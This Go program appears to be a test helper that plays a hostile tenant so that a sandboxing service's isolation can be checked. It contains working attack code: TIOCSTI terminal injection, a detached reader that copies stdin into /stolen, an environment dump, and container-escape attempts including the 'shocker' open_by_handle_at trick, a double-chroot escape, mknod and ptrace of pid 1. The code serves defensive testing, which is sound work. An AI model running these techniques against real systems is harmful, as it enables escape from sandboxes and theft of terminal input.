// Command intruder is a hostile tenant's program, for the tests that
// check what such a program cannot do. It is built static so that it
// runs in a root that holds nothing else. Each mode is one attack; it
// reports what it tried and what happened on stdout, one word=value per
// line, and never decides whether that is good: the test does.
//
//	intruder terminal   from a program an operator started with ipwatchctl
//	                    exec: push a command into the terminal on fd 0
//	                    (TIOCSTI), leave a process in a session of its own
//	                    that keeps reading fd 0 into /stolen, and print the
//	                    environment
//	intruder view       what the service sees of its world: credentials,
//	                    no_new_privs, capabilities, pids, host name, its
//	                    root, its descriptors
//	intruder signal     say ready, wait for SIGTERM, say so and exit 3
//	intruder orphan     leave an orphan that ends at once, and report whether
//	                    something reaps it (in a pid namespace only its pid
//	                    1 can): orphan=reaped, or orphan=zombie
//	intruder escape HOSTPATH HANDLE NAME
//	                    as a service running as root in its root: report the
//	                    host name it sees, then try to rename the host, signal
//	                    every process (kill(-1, 0)), make a block device,
//	                    ptrace pid 1, read NAME below the directory that
//	                    HANDLE (TYPE:HEX, from name_to_handle_at) names with
//	                    open_by_handle_at ("shocker"), and leave the root by a
//	                    second chroot to read HOSTPATH; then, as root
//	                    inside, ask the host's abstract socket
//	                    @virtuald-host-trusts-root which uid it sees
//	                    (host-sees=), read /UNMAPPED (a file of a uid a
//	                    user namespace does not map), tell /OWNED's owner
//	                    and make /made (the test looks at its owner on disk)
package main

import (
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: intruder terminal")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "terminal":
		terminal()
	case "linger":
		linger()
	case "view":
		view()
	case "orphan":
		orphan()
	case "orphan-parent":
		orphanParent()
	case "exit":
		os.Exit(0)
	case "signal":
		signalled()
	case "escape":
		if len(os.Args) != 5 {
			fmt.Fprintln(os.Stderr, "usage: intruder escape HOSTPATH HANDLE NAME")
			os.Exit(2)
		}
		escape(os.Args[2], os.Args[3], os.Args[4])
	default:
		fmt.Fprintln(os.Stderr, "intruder: unknown mode", os.Args[1])
		os.Exit(2)
	}
}

// injected is what terminal pushes into the terminal's input: a shell
// that reads it after exec returns would run it.
const injected = "echo INJECTED\n"

func terminal() {
	err := error(nil)
	for i := 0; i < len(injected) && err == nil; i++ {
		c := injected[i]
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno != 0 {
			err = errno
		}
	}
	fmt.Printf("tiocsti=%v\n", result(err))
	var st unix.Stat_t
	unix.Fstat(0, &st)
	fmt.Printf("stdin=%o:%d:%d\n", st.Mode&unix.S_IFMT, st.Rdev, st.Ino)
	// The lingering reader, in a session of its own so that no hangup of
	// this one reaches it.
	cmd := exec.Command("/intruder", "linger")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil {
		fmt.Printf("linger=%v\n", err)
	} else {
		// It tells its pid once it reads.
		for i := 0; i < 500; i++ {
			if _, err := os.Stat("/linger.pid"); err == nil {
				break
			}
			time.Sleep(10 * time.Millisecond)
		}
		fmt.Printf("linger=%d\n", cmd.Process.Pid)
	}
	for _, kv := range os.Environ() {
		fmt.Printf("env=%s\n", kv)
	}
	fmt.Println("end")
}

// linger reads fd 0 into /stolen until it cannot, then stays (the test
// kills it): what it holds is what the test inspects.
// signalled says it is ready on fd 1, waits for SIGTERM, says so and
// exits 3: what its parent passed on, and what it exited with, show.
func signalled() {
	term := make(chan os.Signal, 1)
	signal.Notify(term, unix.SIGTERM)
	unix.Write(1, []byte("ready\n"))
	<-term
	unix.Write(1, []byte("got SIGTERM\n"))
	os.Exit(3)
}

func linger() {
	os.WriteFile("/linger.pid", []byte(strconv.Itoa(os.Getpid())), 0o644)
	f, err := os.OpenFile("/stolen", os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		os.Exit(1)
	}
	b := make([]byte, 256)
	for {
		n, err := unix.Read(0, b)
		if n > 0 {
			f.Write(b[:n])
		}
		if err != nil && err != unix.EINTR || n == 0 {
			break
		}
	}
	time.Sleep(time.Hour)
}

func view() {
	groups, _ := unix.Getgroups()
	nnp, _ := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
	var bounding uint64
	for c := 0; c < 64; c++ {
		if in, err := unix.PrctlRetInt(unix.PR_CAPBSET_READ, uintptr(c), 0, 0, 0); err != nil {
			break
		} else if in == 1 {
			bounding |= 1 << c
		}
	}
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	unix.Capget(&hdr, &data[0])
	host, _ := os.Hostname()
	var root, parent unix.Stat_t
	unix.Stat("/", &root)
	unix.Stat("/..", &parent)
	fmt.Printf("uid=%d gid=%d groups=%v nnp=%d\n", unix.Getuid(), unix.Getgid(), groups, nnp)
	fmt.Printf("bounding=%x effective=%x\n", bounding, uint64(data[1].Effective)<<32|uint64(data[0].Effective))
	// In a pid namespace the service is pid 1's first child.
	fmt.Printf("own-pid-namespace=%v hostname=%s\n", os.Getpid() == 2 && os.Getppid() == 1, host)
	name, _ := os.ReadFile("/ROOT-NAME")
	fmt.Printf("root=%s root-is-its-parent=%v\n", strings.TrimSpace(string(name)), root.Ino == parent.Ino && root.Dev == parent.Dev)
	fmt.Printf("fds=%s\n", openFDs())
}

// openFDs lists the descriptors open now.
func openFDs() string {
	var fds []string
	for fd := 0; fd < 1024; fd++ {
		if _, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil {
			fds = append(fds, strconv.Itoa(fd))
		}
	}
	return strings.Join(fds, ",")
}

func orphan() {
	parent := exec.Command("/intruder", "orphan-parent")
	parent.Stdin, parent.Stderr = os.Stderr, os.Stderr // no /dev/null in a bare root
	out, err := parent.Output()
	pid, perr := strconv.Atoi(strings.TrimSpace(string(out)))
	if err != nil || perr != nil {
		fmt.Printf("orphan=not made: %v %q\n", err, out)
		return
	}
	// An orphan that ended and was not reaped is a zombie: it can still be
	// signalled. Reaped, it is gone.
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if unix.Kill(pid, 0) == unix.ESRCH {
			fmt.Println("orphan=reaped")
			return
		}
	}
	fmt.Println("orphan=zombie")
}

// orphanParent starts a child that exits at once, prints its pid and
// exits without waiting for it, leaving it an orphan.
func orphanParent() {
	cmd := exec.Command("/intruder", "exit")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stderr, os.Stderr, os.Stderr // no /dev/null in a bare root
	if err := cmd.Start(); err != nil {
		os.Exit(1)
	}
	fmt.Println(cmd.Process.Pid)
}

func escape(hostPath, handle, name string) {
	host, _ := os.Hostname()
	fmt.Printf("hostname=%s\n", host)
	fmt.Printf("sethostname=%s\n", result(unix.Sethostname([]byte("intruded"))))
	fmt.Printf("kill=%s\n", result(unix.Kill(-1, 0)))
	err := unix.Mknod("/blockdev", unix.S_IFBLK|0o600, int(unix.Mkdev(8, 0)))
	if err == nil {
		os.Remove("/blockdev")
	}
	fmt.Printf("mknod=%s\n", result(err))
	err = unix.PtraceAttach(1)
	if err == nil {
		unix.PtraceDetach(1)
	}
	fmt.Printf("ptrace=%s\n", result(err))
	fmt.Printf("host-sees=%s\n", hostSees())
	fmt.Printf("unmapped=%s\n", readAt(unix.AT_FDCWD, "/UNMAPPED"))
	var st unix.Stat_t
	if err := unix.Stat("/OWNED", &st); err != nil {
		fmt.Printf("owned=%s\n", result(err))
	} else {
		fmt.Printf("owned=%d:%d\n", st.Uid, st.Gid)
	}
	fd, err := unix.Open("/made", unix.O_WRONLY|unix.O_CREAT|unix.O_TRUNC, 0o644)
	if err == nil {
		unix.Close(fd)
	}
	fmt.Printf("made=%s\n", result(err))
	// Last: a chroot escape that works leaves the root for good.
	fmt.Printf("shocker=%s\n", shocker(handle, name))
	fmt.Printf("chroot=%s\n", chrootEscape(hostPath))
}

// hostSees asks a host daemon that trusts its peers by their uid (an
// abstract socket, reachable from any mount namespace of its network
// namespace) who this process is.
func hostSees() string {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return result(err)
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: "@virtuald-host-trusts-root"}); err != nil {
		return result(err)
	}
	b := make([]byte, 64)
	n, _ := unix.Read(fd, b)
	return strings.TrimSpace(string(b[:max(n, 0)]))
}

// shocker opens the directory a file handle names, from anywhere on its
// file system, and reads name below it.
func shocker(handle, name string) string {
	typ, hexBytes, _ := strings.Cut(handle, ":")
	t, err1 := strconv.Atoi(typ)
	b, err2 := hex.DecodeString(hexBytes)
	if err1 != nil || err2 != nil {
		return "bad handle"
	}
	mount, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return result(err)
	}
	dir, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(int32(t), b), unix.O_RDONLY|unix.O_DIRECTORY)
	if err != nil {
		return result(err)
	}
	return readAt(dir, name)
}

// chrootEscape is the classic: chroot into a subdirectory, so that the
// working directory is outside the root, climb, and chroot there.
func chrootEscape(hostPath string) string {
	os.Mkdir("/escape", 0o700)
	if err := unix.Chroot("/escape"); err != nil {
		return result(err)
	}
	for i := 0; i < 64; i++ {
		unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return result(err)
	}
	return readAt(unix.AT_FDCWD, hostPath)
}

func readAt(dir int, name string) string {
	fd, err := unix.Openat(dir, name, unix.O_RDONLY, 0)
	if err != nil {
		return result(err)
	}
	b := make([]byte, 256)
	n, _ := unix.Read(fd, b)
	return "read:" + strings.TrimSpace(string(b[:n]))
}

func result(err error) string {
	if err != nil {
		return "refused:" + err.Error()
	}
	return "ok"
}
